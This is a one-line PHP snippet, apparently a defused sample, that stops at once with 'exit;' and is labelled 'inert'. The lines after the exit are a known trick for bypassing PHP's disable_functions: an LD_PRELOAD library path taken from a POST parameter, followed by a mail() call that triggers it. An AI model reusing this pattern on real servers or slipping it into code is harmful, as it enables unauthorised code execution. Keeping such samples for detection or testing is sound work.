<?php exit; /* inert */ putenv("LD_PRELOAD=".$_POST["p"]); mail("a","","");
